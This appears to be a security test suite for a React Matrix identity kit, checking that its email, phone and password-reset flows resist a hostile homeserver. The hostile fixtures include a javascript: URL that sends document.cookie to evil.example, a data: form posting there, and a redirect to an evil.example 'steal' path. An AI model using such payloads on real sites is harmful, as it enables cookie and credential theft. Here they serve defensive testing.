import { QueryClient, QueryClientProvider } from '@tanstack/react-query';
import { cleanup, configure, render, screen } from '@testing-library/react';
import fc from 'fast-check';
import userEvent from '@testing-library/user-event';
import type { ReactElement } from 'react';
import { afterAll, afterEach, beforeEach, describe, expect, it, vi, type MockInstance } from 'vitest';
import { AddEmailFlow, ResetPasswordFlow } from '../../src';
import { AddPhoneFlow } from '../../src/phone';
import { en } from '../../src/i18n/en';
import { createThreepidClient } from '../../src/protocol';
import { ThreepidProvider } from '../../src/react';
import { createFakeHomeserver, type FakeHomeserver } from '../../src/testing';
import type { Exchange, FakeHomeserverOptions } from '../../src/testing/types';
import { HOSTILE_BASE, hostileServer, isPath, json, redirectLike, type SeenRequest } from '../support/hostileServer';

configure({ asyncUtilTimeout: 5000 });
// Whole flows, and fast-check classes of them, on a busy 2-core machine.
vi.setConfig({ testTimeout: 90_000 });

const HTTPS_BASE = 'https://matrix.example.test';
const ALICE = { token: 'syt_alice_fakehomeserver0000000001', password: 'correct horse' };
const PHONE = { national: '07400 123456', e164: '+447400123456' };

/** One call the kit made: the URL and the body it sent. */
interface SentRequest {
  url: string;
  body: string;
}

/**
 * A homeserver that turns hostile on demand: a fetch wrapper around the fake that records every request the kit
 * sends and can rewrite the `submit_url` of requestToken answers. Also gathers every secret that went over the wire.
 */
function hostileSetup(options: FakeHomeserverOptions, rewriteSubmitUrl?: (original: string) => string) {
  const secrets = new Set<string>([ALICE.token, ALICE.password]);
  const collect = (value: unknown): void => {
    if (Array.isArray(value)) value.forEach(collect);
    else if (typeof value === 'object' && value !== null) {
      for (const [key, field] of Object.entries(value)) {
        if (['client_secret', 'password', 'new_password', 'token', 'access_token'].includes(key) && typeof field === 'string') secrets.add(field);
        else collect(field);
      }
    }
  };
  const hs = createFakeHomeserver({
    baseUrl: HTTPS_BASE,
    rateLimit: false,
    ...options,
    onExchange: (exchange: Exchange) => collect(exchange.requestBody),
  });
  const sent: SentRequest[] = [];
  return { hs, sent, fetch: wrapperFetch(sent, hs, rewriteSubmitUrl), secrets: () => [...secrets, ...hs.inbox.all().map((m) => m.token)] };
}

function renderWith(ui: ReactElement, fetchImpl: typeof fetch, accessToken: string | undefined) {
  const client = createThreepidClient({ baseUrl: HTTPS_BASE, accessToken, fetch: fetchImpl });
  const queryClient = new QueryClient({ defaultOptions: { queries: { retry: false }, mutations: { retry: false } } });
  render(
    <QueryClientProvider client={queryClient}>
      <ThreepidProvider client={client}>{ui}</ThreepidProvider>
    </QueryClientProvider>,
  );
  return { user: userEvent.setup({ delay: null }) };
}

/** Every console call of any level, as text. */
function consoleRecorder(): { lines(): string[]; restore(): void } {
  const spies: MockInstance[] = (['log', 'info', 'warn', 'error', 'debug'] as const).map((level) => vi.spyOn(console, level));
  return {
    lines: () => spies.flatMap((spy) => spy.mock.calls.map((args) => args.map((arg) => (typeof arg === 'string' ? arg : JSON.stringify(arg) ?? String(arg))).join(' '))),
    restore: () => spies.forEach((spy) => spy.mockRestore()),
  };
}

const HOSTILE_SUBMIT_URLS: { name: string; rewrite: (original: string) => string }[] = [
  { name: 'javascript:', rewrite: () => 'javascript:fetch("https://evil.example/"+document.cookie)' },
  { name: 'data:', rewrite: () => 'data:text/html,<form method=post action=https://evil.example/>' },
  // Same host, but plain http from an https homeserver: the code and client_secret would cross the network in clear.
  { name: 'http from an https homeserver', rewrite: (original) => original.replace(/^https:/, 'http:') },
  // fetch itself refuses a URL with credentials; the kit must say why, not "Can't reach your server".
  { name: 'with credentials', rewrite: (original) => original.replace(/^https:\/\//, 'https://user:pass@') },
  { name: 'of absurd length', rewrite: (original) => `${original}?pad=${'a'.repeat(100_000)}` },
];

/** What the security table prints: each hostile answer tried, and what the kit did. */
const tried: { flow: string; submitUrl: string; outcome: string }[] = [];

describe('a hostile submit_url', () => {
  let recorded: ReturnType<typeof consoleRecorder>;
  beforeEach(() => {
    recorded = consoleRecorder();
  });
  afterEach(() => recorded.restore());
  afterAll(() => {
    const width = Math.max(...tried.map((row) => row.submitUrl.length), 'submit_url'.length);
    console.log(
      ['Security: hostile submit_url', `${'flow'.padEnd(12)} | ${'submit_url'.padEnd(width)} | outcome`, ...tried.map((row) => `${row.flow.padEnd(12)} | ${row.submitUrl.padEnd(width)} | ${row.outcome}`)].join('\n'),
    );
  });

  describe.each(HOSTILE_SUBMIT_URLS)('($name)', ({ name, rewrite }) => {
    it('should be refused by AddPhoneFlow with nothing sent, saying the code was not sent', async () => {
      const { hs, sent, fetch, secrets } = hostileSetup({}, rewrite);
      const { user } = renderWith(<AddPhoneFlow defaultCountry="GB" />, fetch, ALICE.token);
      await user.type(await screen.findByRole('textbox', { name: en['phone.label'] }), PHONE.national);
      await user.click(screen.getByRole('button', { name: en['addPhone.submit'] }));
      // A complete code sends itself.
      await user.type(await screen.findByRole('textbox', { name: en['code.label'] }), hs.inbox.latest(PHONE.e164)?.token ?? '');

      expect(await screen.findByRole('alert')).toHaveTextContent(en['errors.invalidSubmitUrl']);
      // Nothing left for the hostile address: no request to it, none to the real submit_url, the code nowhere.
      expect(sent.map((request) => new URL(request.url).pathname)).toEqual([
        '/_matrix/client/v3/capabilities',
        '/_matrix/client/v3/account/3pid/msisdn/requestToken',
      ]);
      expect(hs.requests.count({ endpoint: 'submitToken' })).toBe(0);
      const code = hs.inbox.latest(PHONE.e164)?.token ?? '';
      expect(sent.filter((request) => request.body.includes(code))).toEqual([]);
      expect(leaks(secrets(), recorded.lines())).toEqual([]);
      tried.push({ flow: 'AddPhoneFlow', submitUrl: name, outcome: 'refused, message shown, 0 requests to any submit_url, code sent nowhere' });
    });

    it('should be refused by AddEmailFlow (server-checked email codes) with nothing sent', async () => {
      const { hs, sent, fetch } = hostileSetup({ emailSubmitUrl: true }, rewrite);
      const { user } = renderWith(<AddEmailFlow />, fetch, ALICE.token);
      await user.type(await screen.findByRole('textbox', { name: en['email.label'] }), 'hostile@example.org');
      await user.click(screen.getByRole('button', { name: en['addEmail.submit'] }));
      await user.type(await screen.findByRole('textbox', { name: en['code.label'] }), hs.inbox.latest('hostile@example.org')?.token ?? '');

      expect(await screen.findByRole('alert')).toHaveTextContent(en['errors.invalidSubmitUrl']);
      expect(sent.map((request) => new URL(request.url).pathname)).toEqual([
        '/_matrix/client/v3/capabilities',
        '/_matrix/client/v3/account/3pid/email/requestToken',
      ]);
      expect(hs.requests.count({ endpoint: 'submitToken' })).toBe(0);
      tried.push({ flow: 'AddEmailFlow', submitUrl: name, outcome: 'refused, message shown, 0 requests to any submit_url' });
    });
  });
});

describe('secrets while a flow runs', () => {
  it.each([
    {
      name: 'AddPhoneFlow',
      ui: <AddPhoneFlow defaultCountry="GB" pollIntervalMs={false} />,
      accessToken: ALICE.token,
      async drive(user: ReturnType<typeof userEvent.setup>, hs: FakeHomeserver) {
        await user.type(await screen.findByRole('textbox', { name: en['phone.label'] }), PHONE.national);
        await user.click(screen.getByRole('button', { name: en['addPhone.submit'] }));
        await user.type(await screen.findByRole('textbox', { name: en['code.label'] }), hs.inbox.latest(PHONE.e164)?.token ?? '');
          await user.type(await screen.findByLabelText(en['auth.password.label']), ALICE.password);
        await user.click(screen.getByRole('button', { name: en['auth.password.submit'] }));
        await screen.findByRole('heading', { level: 2, name: en['addPhone.done.heading'] });
      },
    },
    {
      name: 'ResetPasswordFlow',
      ui: <ResetPasswordFlow pollIntervalMs={false} />,
      accessToken: undefined,
      async drive(user: ReturnType<typeof userEvent.setup>, hs: FakeHomeserver) {
        await user.type(await screen.findByRole('textbox', { name: en['email.label'] }), 'alice@example.org');
        await user.click(screen.getByRole('button', { name: en['reset.submitEmail'] }));
        await user.type(await screen.findByLabelText(en['reset.password.newLabel']), 'new password, long enough');
        await user.type(screen.getByLabelText(en['reset.password.confirmLabel']), 'new password, long enough');
        await user.click(screen.getByRole('button', { name: en['common.continue'] }));
        await screen.findByRole('heading', { level: 2, name: en['reset.link.heading'] });
        await hs.followLink(hs.inbox.latest('alice@example.org')?.link ?? '');
        await user.click(screen.getByRole('button', { name: en['reset.link.continue'] }));
        await screen.findByRole('heading', { level: 2, name: en['reset.done.heading'] });
      },
    },
  ])('should keep every secret of $name out of the DOM, the console and every URL the kit builds', async ({ ui, accessToken, drive }) => {
    const recorded = consoleRecorder();
    try {
      const { hs, sent, fetch, secrets } = hostileSetup({});
      const { user } = renderWith(ui, fetch, accessToken);
      await drive(user, hs);
      const all = secrets();
      // client_secret, the code or link token, the passwords and the access token were all in play.
      expect(all.length).toBeGreaterThanOrEqual(4);
      const dom = document.documentElement.outerHTML;
      expect(leaks(all, [dom])).toEqual([]);
      expect(leaks(all, recorded.lines())).toEqual([]);
      expect(leaks(all, sent.map((request) => request.url))).toEqual([]);
    } finally {
      recorded.restore();
    }
  });
});

/** The fetch the client gets: records, forwards to the fake, and rewrites submit_url when asked. */
function wrapperFetch(sent: SentRequest[], hs: FakeHomeserver, rewrite?: (original: string) => string): typeof fetch {
  return async (input, init) => {
    const url = input instanceof Request ? input.url : String(input);
    sent.push({ url, body: typeof init?.body === 'string' ? init.body : '' });
    const response = await hs.fetch(input, init);
    if (!rewrite || !new URL(url).pathname.endsWith('/requestToken') || response.status !== 200) return response;
    const body: unknown = await response.json();
    const changed =
      typeof body === 'object' && body !== null && 'submit_url' in body && typeof body.submit_url === 'string'
        ? { ...body, submit_url: rewrite(body.submit_url) }
        : body;
    return new Response(JSON.stringify(changed), { status: 200, headers: { 'content-type': 'application/json' } });
  };
}

/** Which secrets appear in any of `texts` (masked, so a failure does not print them whole). */
function leaks(secrets: string[], texts: string[]): string[] {
  return secrets.filter((secret) => texts.some((text) => text.includes(secret) || text.includes(encodeURIComponent(secret)))).map((s) => `${s.slice(0, 2)}…`);
}

// --- Issue #13: a broken or hostile homeserver. Each point has a fixed case first, then the whole class (fast-check).

const RUNS = 6;
const LOOP_LIMIT = 3;
const AUTH_PATH = '/account/3pid/add';

/** Types an email, sends it and asks to finish: the kit's first 3pid/add goes out. */
async function reachCompletion(user: ReturnType<typeof userEvent.setup>, email = 'loop@example.org'): Promise<void> {
  await user.type(await screen.findByRole('textbox', { name: en['email.label'] }), email);
  await user.click(screen.getByRole('button', { name: en['addEmail.submit'] }));
  await user.click(await screen.findByRole('button', { name: en['addEmail.link.continue'] }));
}

/** A UIA challenge body. */
const uiaBody = (stages: string[], extra: Record<string, unknown> = {}) => ({ flows: [{ stages }], params: {}, ...extra });

describe('issue 13: bounded UIA loops', () => {
  it('should stop a host auth handler the server keeps refusing after a few tries, say so and let the person try again', async () => {
    const { seen, fetch } = hostileServer((request) => (isPath(request, AUTH_PATH) ? json(401, uiaBody(['m.login.dummy'], { session: 'same' })) : undefined));
    const onAuthRequired = vi.fn(async () => ({ type: 'm.login.dummy' }));
    const { user } = renderWith(<AddEmailFlow pollIntervalMs={false} onAuthRequired={onAuthRequired} />, fetch, ALICE.token);
    await reachCompletion(user);

    expect(await screen.findByRole('alert')).toHaveTextContent(en['errors.authLoop']);
    const posts = seen.filter((request) => isPath(request, AUTH_PATH)).length;
    expect(posts).toBeLessThanOrEqual(1 + LOOP_LIMIT);
    // Nothing more goes out by itself…
    await new Promise((resolve) => setTimeout(resolve, 100));
    expect(seen.filter((request) => isPath(request, AUTH_PATH))).toHaveLength(posts);
    // …and the person can try again.
    await user.click(screen.getByRole('button', { name: en['addEmail.link.continue'] }));
    await vi.waitFor(() => expect(seen.filter((request) => isPath(request, AUTH_PATH)).length).toBeGreaterThan(posts));
  });

  it('should say the password was not accepted when the server answers it with a bare 401', async () => {
    const { fetch } = hostileServer((request) => (isPath(request, AUTH_PATH) ? json(401, uiaBody(['m.login.password'], { session: 's' })) : undefined));
    const { user } = renderWith(<AddEmailFlow pollIntervalMs={false} />, fetch, ALICE.token);
    await reachCompletion(user);
    await user.type(await screen.findByLabelText(en['auth.password.label']), ALICE.password);
    await user.click(screen.getByRole('button', { name: en['auth.password.submit'] }));
    expect(await screen.findByRole('alert')).toHaveTextContent(en['errors.wrongPassword']);
    expect(screen.getByLabelText(en['auth.password.label'])).toHaveValue(ALICE.password);
  });

  it('should bound any UIA answer that makes no progress, whatever its stages, session and errcode (class)', async () => {
    const stall = fc.record({
      stages: fc.array(fc.constantFrom('m.login.dummy', 'm.login.terms', 'org.example.custom', 'm.login.password'), { minLength: 1, maxLength: 3 }),
      session: fc.option(fc.string({ minLength: 1, maxLength: 12 }), { nil: undefined }),
      errcode: fc.constantFrom(undefined, 'M_FORBIDDEN', 'M_UNAUTHORIZED', 'M_UNKNOWN'),
    });
    await fc.assert(
      fc.asyncProperty(stall, async ({ stages, session, errcode }) => {
        cleanup();
        const body = uiaBody(stages, { ...(session ? { session } : {}), ...(errcode ? { errcode } : {}) });
        const { seen, fetch } = hostileServer((request) => (isPath(request, AUTH_PATH) ? json(401, body) : undefined));
        const { user } = renderWith(<AddEmailFlow pollIntervalMs={false} onAuthRequired={async () => ({ type: stages[0] })} />, fetch, ALICE.token);
        await reachCompletion(user);
        await screen.findByRole('button', { name: en['addEmail.link.continue'] }, { timeout: 5000 });
        await vi.waitFor(() => expect(screen.queryByRole('alert')).not.toBeNull());
        expect(seen.filter((request) => isPath(request, AUTH_PATH)).length).toBeLessThanOrEqual(1 + LOOP_LIMIT);
      }),
      { numRuns: RUNS },
    );
  });
});

describe('issue 13: invisible and direction characters in addresses', () => {
  it('should refuse a defaultValue holding a right-to-left override, say why, keep it and send nothing', async () => {
    const spoof = '\u202Egro.elpmaxe@ecila.ve';
    const { hs, fetch } = hostileServer(() => undefined);
    const { user } = renderWith(<AddEmailFlow defaultValue={spoof} />, fetch, ALICE.token);
    await user.click(await screen.findByRole('button', { name: en['addEmail.submit'] }));
    expect(await screen.findByRole('alert')).toHaveTextContent(en['errors.hiddenCharacters']);
    expect(screen.getByRole('textbox', { name: en['email.label'] })).toHaveValue(spoof);
    expect(hs.requests.count({ endpoint: 'requestToken' })).toBe(0);
  });

  const hidden = fc.constantFrom(
    '\u202E', '\u202D', '\u202A', '\u2066', '\u2067', '\u2068', '\u2069', '\u200E', '\u200F', '\u061C', // bidi controls
    '\u200B', '\u200C', '\u200D', '\u2060', '\uFEFF', '\u00AD', '\u034F', '\u180E', '\u3164', '\uFFA0', // invisible
    '\u0000', '\u0007', '\u001B', '\u007F', '\u0085', '\u2028', '\u2029', '\uE000', // control, separators, private use
  );
  const spoofed = fc
    .tuple(fc.constantFrom('alice@example.org', 'bob.smith@mail.example.net'), fc.array(fc.tuple(fc.nat(), hidden), { minLength: 1, maxLength: 3 }))
    .map(([email, inserts]) => inserts.reduce<string>((s, [at, ch]) => s.slice(0, at % (s.length + 1)) + ch + s.slice(at % (s.length + 1)), email));

  it('should refuse every hidden character anywhere in an email, in each flow, with nothing sent (class)', async () => {
    await fc.assert(
      fc.asyncProperty(spoofed, fc.constantFrom('add', 'reset'), async (address, flow) => {
        cleanup();
        const { hs, fetch } = hostileServer(() => undefined);
        const ui = flow === 'add' ? <AddEmailFlow defaultValue={address} /> : <ResetPasswordFlow defaultValue={address} passwordStep="after-link" />;
        const { user } = renderWith(ui, fetch, flow === 'add' ? ALICE.token : undefined);
        await user.click(await screen.findByRole('button', { name: flow === 'add' ? en['addEmail.submit'] : en['reset.submitEmail'] }));
        // The form's own shape check may speak first; either way the address is refused and nothing is sent.
        await vi.waitFor(() => expect(screen.queryAllByRole('alert').length).toBeGreaterThan(0));
        expect(screen.getByRole('textbox', { name: en['email.label'] })).toHaveValue(address);
        expect(hs.requests.count({ endpoint: 'requestToken' })).toBe(0);
      }),
      { numRuns: RUNS * 2 },
    );
  });
});

describe('issue 13: a fallback stage that cannot start', () => {
  it.each([
    ['no UIA session', uiaBody(['m.login.sso'])],
    ['every stage already completed', uiaBody(['m.login.sso'], { session: 's', completed: ['m.login.sso'] })],
  ])('should say what went wrong with %s, open no window, and ask the server again on "Try again"', async (_name, body) => {
    const open = vi.spyOn(window, 'open').mockReturnValue(null);
    try {
      const { seen, fetch } = hostileServer((request) => (isPath(request, AUTH_PATH) ? json(401, body) : undefined));
      const { user } = renderWith(<AddEmailFlow pollIntervalMs={false} />, fetch, ALICE.token);
      await reachCompletion(user);
      expect(await screen.findByText(en['auth.fallback.unavailable'])).toBeInTheDocument();
      const before = seen.filter((request) => isPath(request, AUTH_PATH)).length;
      await user.click(screen.getByRole('button', { name: en['auth.retry'] }));
      await vi.waitFor(() => expect(seen.filter((request) => isPath(request, AUTH_PATH)).length).toBe(before + 1));
      expect(open).not.toHaveBeenCalled();
      expect(screen.queryByText(en['auth.window.waiting'])).toBeNull();
    } finally {
      open.mockRestore();
    }
  });
});

describe('issue 13: absurd waits', () => {
  it.each([
    ['retry_after_ms 1e15', json(429, { errcode: 'M_LIMIT_EXCEEDED', error: 'Too many', retry_after_ms: 1e15 })],
    ['a Retry-After date in the year 9999', json(429, { errcode: 'M_LIMIT_EXCEEDED' }, { 'retry-after': 'Fri, 31 Dec 9999 23:59:59 GMT' })],
  ])('should clamp %s to a day, say it in hours, and still send to another address', async (_name, answer) => {
    let limited = true;
    const { hs, fetch } = hostileServer((request) => (limited && isPath(request, '/requestToken') ? ((limited = false), answer) : undefined));
    const { user } = renderWith(<AddEmailFlow pollIntervalMs={false} />, fetch, ALICE.token);
    const field = await screen.findByRole('textbox', { name: en['email.label'] });
    await user.type(field, 'first@example.org');
    await user.click(screen.getByRole('button', { name: en['addEmail.submit'] }));
    expect(await screen.findByRole('alert')).toHaveTextContent('Too many attempts. Try again in 24 hours.');
    await user.clear(field);
    await user.type(field, 'second@example.org');
    await user.click(screen.getByRole('button', { name: en['addEmail.submit'] }));
    expect(await screen.findByRole('heading', { level: 2, name: en['addEmail.link.heading'] })).toBeInTheDocument();
    expect(hs.inbox.latest('second@example.org')).toBeDefined();
  });

  it('should word any wait as at most 24 hours, in hours beyond 90 minutes (class)', async () => {
    const wait = fc.oneof(
      fc.integer({ min: 5_400_001, max: Number.MAX_SAFE_INTEGER }).map((ms) => ({ body: { retry_after_ms: ms }, headers: {} })),
      fc.date({ min: new Date(Date.now() + 3 * 3_600_000), max: new Date('9999-12-31'), noInvalidDate: true }).map((d) => ({ body: {}, headers: { 'retry-after': d.toUTCString() } })),
      fc.integer({ min: 5_401, max: 1e12 }).map((s) => ({ body: {}, headers: { 'retry-after': String(s) } })),
    );
    await fc.assert(
      fc.asyncProperty(wait, async ({ body, headers }) => {
        cleanup();
        const { fetch } = hostileServer((request) => (isPath(request, '/requestToken') ? json(429, { errcode: 'M_LIMIT_EXCEEDED', ...body }, headers) : undefined));
        const { user } = renderWith(<AddEmailFlow defaultValue="wait@example.org" />, fetch, ALICE.token);
        await user.click(await screen.findByRole('button', { name: en['addEmail.submit'] }));
        const text = (await screen.findByRole('alert')).textContent ?? '';
        const hours = Number(/in (\d+) hours/.exec(text)?.[1]);
        expect(hours, text).toBeGreaterThanOrEqual(2);
        expect(hours, text).toBeLessThanOrEqual(24);
      }),
      { numRuns: RUNS },
    );
  });
});

describe('issue 13: secrets echoed by the server', () => {
  it('should redact the password from the server text shown and given to onError', async () => {
    const { fetch } = hostileServer((request) =>
      isPath(request, AUTH_PATH) && request.body.auth
        ? json(400, { errcode: 'M_UNKNOWN', error: `Could not check password ${ALICE.password}` })
        : undefined,
    );
    const onError = vi.fn();
    const { user } = renderWith(<AddEmailFlow pollIntervalMs={false} onError={onError} />, fetch, ALICE.token);
    await reachCompletion(user);
    await user.type(await screen.findByLabelText(en['auth.password.label']), ALICE.password);
    await user.click(screen.getByRole('button', { name: en['auth.password.submit'] }));
    const alert = await screen.findByRole('alert');
    expect(alert).toHaveTextContent('Could not check password');
    expect(alert.textContent).not.toContain(ALICE.password);
    expect(JSON.stringify(onError.mock.calls)).not.toContain(ALICE.password);
  });

  it('should redact every secret the flow holds from any server text, wherever the server puts it (class)', async () => {
    const where = fc.constantFrom('clientSecret', 'accessToken', 'password', 'code');
    await fc.assert(
      fc.asyncProperty(where, fc.string({ maxLength: 20 }).map((s) => s.replace(/[{}<>[\]\u0000-\u001f\u007f]/g, '')), fc.string({ maxLength: 20 }).map((s) => s.replace(/[{}<>[\]\u0000-\u001f\u007f]/g, '')), async (which, before, after) => {
        cleanup();
        const secrets: Record<string, string> = { accessToken: ALICE.token, password: ALICE.password };
        const echo = (secret: string) => json(400, { errcode: 'M_UNKNOWN', error: `${before}${secret}${after}` });
        const { hs, fetch } = hostileServer(
          (request) => {
            if (typeof request.body.client_secret === 'string') secrets.clientSecret = request.body.client_secret;
            if (which === 'code' && isPath(request, AUTH_PATH) && request.body.auth) return echo(hs.inbox.all()[0]?.token ?? '');
            if (which !== 'code' && isPath(request, AUTH_PATH) && request.body.auth) return echo(secrets[which] ?? '');
            return undefined;
          },
          { emailSubmitUrl: true },
        );
        const onError = vi.fn();
        const { user } = renderWith(<AddEmailFlow pollIntervalMs={false} onError={onError} />, fetch, ALICE.token);
        await user.type(await screen.findByRole('textbox', { name: en['email.label'] }), 'echo@example.org');
        await user.click(screen.getByRole('button', { name: en['addEmail.submit'] }));
        // A whole code sends itself.
        await user.type(await screen.findByRole('textbox', { name: en['code.label'] }), hs.inbox.latest('echo@example.org')?.token ?? '');
        await user.type(await screen.findByLabelText(en['auth.password.label']), ALICE.password);
        await user.click(screen.getByRole('button', { name: en['auth.password.submit'] }));
        await screen.findByRole('alert');
        const all = [secrets.clientSecret ?? '', ALICE.token, ALICE.password, hs.inbox.latest('echo@example.org')?.token ?? ''];
        expect(leaks(all, [document.body.innerHTML, JSON.stringify(onError.mock.calls)])).toEqual([]);
      }),
      { numRuns: RUNS },
    );
  });
});

describe('issue 13: tampered saved state', () => {
  const KEY = 'matrix-threepid-kit:add:msisdn';
  const saved = (session: Record<string, unknown>) => ({
    v: 1,
    step: 'awaitingCode',
    session: {
      medium: 'msisdn',
      address: PHONE.e164,
      country: 'GB',
      phoneNumber: '7400123456',
      clientSecret: 'savedSecret0123456789',
      sid: 'sid1',
      sendAttempt: 1,
      submitUrl: `${HOSTILE_BASE}/_matrix/client/unstable/add_threepid/msisdn/submit_token`,
      startedAt: Date.now() - 1000,
      cooldownUntil: Date.now() + 1000,
      ...session,
    },
  });
  const storageWith = (value: unknown) => {
    const items = new Map([[KEY, JSON.stringify(value)]]);
    return { items, getItem: (k: string) => items.get(k) ?? null, setItem: (k: string, v: string) => void items.set(k, v), removeItem: (k: string) => void items.delete(k) };
  };

  it('should resume an untouched saved session (the control for the cases below)', async () => {
    const { fetch } = hostileServer(() => undefined);
    renderWith(<AddPhoneFlow defaultCountry="GB" persist={storageWith(saved({}))} />, fetch, ALICE.token);
    expect(await screen.findByRole('heading', { level: 2, name: en['addPhone.code.heading'] })).toBeInTheDocument();
  });

  it.each([
    ['country XX', { country: 'XX' }],
    ['country gb', { country: 'gb' }],
    ['startedAt in the future', { startedAt: Date.now() + 365 * 86_400_000 }],
    ['a javascript: submitUrl', { submitUrl: 'javascript:alert(1)' }],
  ])('should start clean from a saved session with %s, without errors, and send a typed number', async (_name, tampered) => {
    const recorded = consoleRecorder();
    try {
      const storage = storageWith(saved(tampered));
      const { hs, fetch } = hostileServer(() => undefined);
      const { user } = renderWith(<AddPhoneFlow defaultCountry="GB" persist={storage} />, fetch, ALICE.token);
      await user.type(await screen.findByRole('textbox', { name: en['phone.label'] }), PHONE.national);
      await user.click(screen.getByRole('button', { name: en['addPhone.submit'] }));
      expect(await screen.findByRole('heading', { level: 2, name: en['addPhone.code.heading'] })).toBeInTheDocument();
      expect(hs.requests.count({ endpoint: 'requestToken' })).toBe(1);
      expect(recorded.lines().filter((line) => /error|unknown country/i.test(line))).toEqual([]);
    } finally {
      recorded.restore();
    }
  });

  it('should start clean from any tampered field of a saved session (class)', async () => {
    const tamper = fc.oneof(
      fc.record({ country: fc.oneof(fc.constantFrom('XX', 'gb', 'GBR', '', 'ZZ', '__proto__'), fc.integer(), fc.constant(null)) }),
      fc.record({ startedAt: fc.oneof(fc.integer({ min: Date.now() + 60_000, max: 8.64e15 }), fc.constantFrom('yesterday', null, Number.NaN)) }),
      fc.record({ cooldownUntil: fc.oneof(fc.integer({ min: Date.now() + 2 * 86_400_000, max: 8.64e15 }), fc.constantFrom('soon', -Infinity)) }),
      fc.record({ submitUrl: fc.oneof(fc.constantFrom('javascript:alert(1)', 'data:text/html,x', 'https://u:p@evil.example/', 'not a url', `https://x.example/${'a'.repeat(5000)}`), fc.integer()) }),
      fc.record({ address: fc.constantFrom('+44\u202E7400123456', '\u200B+447400123456', '+447400123456\u0000') }),
      fc.record({ clientSecret: fc.constantFrom('', 'has space', 'a'.repeat(256), 'ünïcode') }),
      fc.record({ sendAttempt: fc.constantFrom(-1, 0, 1.5, '1', Number.MAX_VALUE) }),
      fc.record({ sid: fc.constantFrom('', 42, 'x'.repeat(300)) }),
      fc.record({ phoneNumber: fc.constantFrom('12ab', '', '+447400123456', '\u202E123') }),
    );
    await fc.assert(
      fc.asyncProperty(tamper, async (tampered) => {
        cleanup();
        const recorded = consoleRecorder();
        try {
          const storage = storageWith(saved(tampered));
          const { fetch } = hostileServer(() => undefined);
          renderWith(<AddPhoneFlow defaultCountry="GB" persist={storage} />, fetch, ALICE.token);
          expect(await screen.findByRole('textbox', { name: en['phone.label'] })).toHaveValue('');
          expect(screen.queryByRole('heading', { level: 2, name: en['addPhone.code.heading'] })).toBeNull();
          expect(storage.items.has(KEY)).toBe(false);
          expect(recorded.lines().filter((line) => /error/i.test(line))).toEqual([]);
        } finally {
          recorded.restore();
        }
      }),
      { numRuns: RUNS * 3 },
    );
  });
});

describe('issue 13: redirects', () => {
  it('should treat a 307 on 3pid/add to another origin as a server error: nothing re-sent there, no success', async () => {
    const foreign: SeenRequest[] = [];
    const { fetch } = hostileServer((request) =>
      isPath(request, AUTH_PATH) && request.body.auth
        ? redirectLike(request, 307, 'https://evil.example/steal', (to) => (foreign.push(to), json(200, {})))
        : undefined,
    );
    const onComplete = vi.fn();
    const { user } = renderWith(<AddEmailFlow pollIntervalMs={false} onComplete={onComplete} />, fetch, ALICE.token);
    await reachCompletion(user);
    await user.type(await screen.findByLabelText(en['auth.password.label']), ALICE.password);
    await user.click(screen.getByRole('button', { name: en['auth.password.submit'] }));
    expect(await screen.findByRole('alert')).toHaveTextContent(en['errors.server']);
    expect(foreign).toEqual([]);
    expect(onComplete).not.toHaveBeenCalled();
    expect(screen.queryByRole('heading', { level: 2, name: en['addEmail.done.heading'] })).toBeNull();
  });

  it('should refuse a redirect of any status to any origin on every call, with no foreign answer counting (class)', async () => {
    const redirect = fc.record({
      status: fc.constantFrom(301, 302, 303, 307, 308),
      location: fc.oneof(fc.webUrl(), fc.constantFrom(`${HOSTILE_BASE}/elsewhere`, 'http://127.0.0.1:1/x')),
      endpoint: fc.constantFrom('/requestToken', '/capabilities', AUTH_PATH),
    });
    await fc.assert(
      fc.asyncProperty(redirect, async ({ status, location, endpoint }) => {
        cleanup();
        const foreign: SeenRequest[] = [];
        const { fetch } = hostileServer((request) =>
          isPath(request, endpoint) ? redirectLike(request, status, location, (to) => (foreign.push(to), json(200, { sid: 'foreign', capabilities: {} }))) : undefined,
        );
        const onComplete = vi.fn();
        const { user } = renderWith(<AddEmailFlow pollIntervalMs={false} onComplete={onComplete} onAuthRequired={async () => ({ type: 'm.login.dummy' })} />, fetch, ALICE.token);
        await user.type(await screen.findByRole('textbox', { name: en['email.label'] }), 'redirect@example.org');
        await user.click(screen.getByRole('button', { name: en['addEmail.submit'] }));
        expect(foreign).toEqual([]);
        expect(onComplete).not.toHaveBeenCalled();
      }),
      { numRuns: RUNS },
    );
  });
});

describe('issue 13: honest words for refused URLs', () => {
  it("should name a host's bad nextLink in the console and onError, and send nothing", async () => {
    const recorded = consoleRecorder();
    try {
      const { hs, fetch } = hostileServer(() => undefined);
      const onError = vi.fn();
      const { user } = renderWith(<AddEmailFlow nextLink="javascript:alert(1)" onError={onError} />, fetch, ALICE.token);
      await user.type(await screen.findByRole('textbox', { name: en['email.label'] }), 'next@example.org');
      await user.click(screen.getByRole('button', { name: en['addEmail.submit'] }));
      expect(await screen.findByRole('alert')).toHaveTextContent(en['errors.misconfigured']);
      expect(onError).toHaveBeenCalledWith(expect.objectContaining({ kind: 'misconfigured', prop: 'nextLink' }));
      expect(recorded.lines().some((line) => line.includes('nextLink'))).toBe(true);
      expect(hs.requests.count({ endpoint: 'requestToken' })).toBe(0);
      expect(screen.getByRole('textbox', { name: en['email.label'] })).toHaveValue('next@example.org');
    } finally {
      recorded.restore();
    }
  });
});
